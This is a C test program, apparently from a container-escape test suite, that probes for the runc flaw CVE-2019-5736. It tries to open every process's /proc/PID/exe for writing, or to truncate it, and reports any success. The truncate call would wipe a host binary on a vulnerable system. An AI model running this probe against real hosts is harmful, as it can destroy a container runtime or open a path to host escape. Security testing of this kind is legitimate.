/* fs_exe SECONDS - tries to overwrite the program that starts programs (CVE-2019-5736): for so
 * long, opens /proc/PID/exe of every process for writing, while other programs are started. */
#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "../try.h"

static unsigned long looked;

static int open_all(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char path[300];
	int got = -1;

	while (proc != NULL && (entry = readdir(proc)) != NULL) {
		/* Our own program fails with ETXTBSY, and would be no escape. */
		if (entry->d_name[0] < '0' || entry->d_name[0] > '9' ||
		    atoi(entry->d_name) == getpid())
			continue;
		(void)snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
		looked++;
		if (open(path, O_WRONLY) >= 0 || open(path, O_RDWR) >= 0 ||
		    truncate(path, 0) == 0) {
			report(path, 0);
			got = 0;
		}
	}
	if (proc != NULL)
		(void)closedir(proc);
	return got;
}

int main(int argc, char **argv)
{
	time_t until = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);

	while (time(NULL) < until) {
		if (fork() == 0) {
			(void)execl("/usr/bin/true", "true", NULL);
			_exit(1);
		}
		(void)open_all();
		(void)wait(NULL);
	}
	report("/proc/1/exe", open("/proc/1/exe", O_WRONLY));
	printf("looked at %lu\n", looked);
	return 0;
}
